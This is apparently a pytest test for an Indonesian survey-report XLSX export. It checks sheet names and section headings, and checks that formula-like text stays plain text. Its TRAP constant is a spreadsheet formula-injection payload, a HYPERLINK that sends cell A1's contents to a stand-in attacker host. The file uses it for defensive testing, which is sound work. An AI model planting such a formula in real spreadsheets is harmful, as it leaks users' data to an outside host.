"""The SKM spreadsheet carries every section of the report, and no text of anyone's becomes a formula."""

from __future__ import annotations

from datetime import date, timedelta
from io import BytesIO

from openpyxl import load_workbook

from policies.core.db import unit_of_work
from policies.evaluation.followup import plans
from policies.evaluation.report.as_xlsx import report_xlsx
from tests.conftest import NOW
from tests.policies.evaluation.conftest import answers
from tests.policies.evaluation.followup_setup import WEAK_U8, closed_round

TRAP = '=HYPERLINK("http://jahat.example/?x="&A1,"klik")'


def test_the_workbook_has_every_section_and_keeps_formula_like_text_as_text(
    db: str, in_evaluation: str, staff: dict
) -> None:
    sheets = [answers(WEAK_U8, usulan_materi=TRAP)] + [answers(WEAK_U8) for _ in range(4)]
    round_id = closed_round(db, staff["evaluator"], opens_at=NOW, sheets=sheets)
    with unit_of_work(db) as s:
        plans.create_item(
            s,
            actor=staff["drafter"],
            round_id=round_id,
            subject="unsur",
            code="u8",
            action="=1+1 kanal pengaduan",
            owner_unit="Bidang Pengembangan Kompetensi",
            due_on=date(2026, 10, 1),
            now=NOW + timedelta(days=11),
        )
    with unit_of_work(db) as s:
        book = load_workbook(BytesIO(report_xlsx(s, round_id=round_id)))
    assert book.sheetnames[:5] == [
        "Ringkasan",
        "Sampel",
        "NRR per unsur",
        "Per unit",
        "Layanan dan indikator",
    ]
    summary = [[v for v in row if v is not None] for row in book["Ringkasan"].iter_rows(values_only=True)]
    firsts = [row[0] for row in summary if row]
    for heading in (
        "I. Pendahuluan",
        "A. Latar belakang",
        "B. Dasar hukum",
        "C. Tujuan",
        "IV. Analisis Hasil",
    ):
        assert heading in firsts
    assert firsts[-2:] == [
        "V. Kesimpulan",
        "IKM putaran ini 94,44, mutu pelayanan A (Sangat Baik), dari 5 jawaban (margin of error ± 0,00 %).",
    ]
    [lowest] = [row for row in summary if row and row[0] == "A. Unsur terendah dan tertinggi"]
    assert lowest[1].startswith(
        "Unsur dengan nilai terendah: Penanganan Pengaduan, Saran dan Masukan (NRR 2,00"
    )
    assert any(row and row[0] == "D. Rekomendasi revisi" for row in summary)
    services = [list(row) for row in book["Layanan dan indikator"].iter_rows(values_only=True)]
    assert ["E. Hasil per layanan", None, None, None, None] in services
    assert ["F. Indikator terhadap target", None, None, None, None] in services
    assert any(
        row[0] and str(row[0]).startswith("Indeks Kepuasan Masyarakat (IKM)") and row[3] == 94.44
        for row in services
    )
    # The respondent's "formula" and the drafter's are plain text cells, shown as written.
    cells = {
        cell.value: cell.data_type
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    }
    assert cells == {TRAP: "s", "=1+1 kanal pengaduan": "s"}
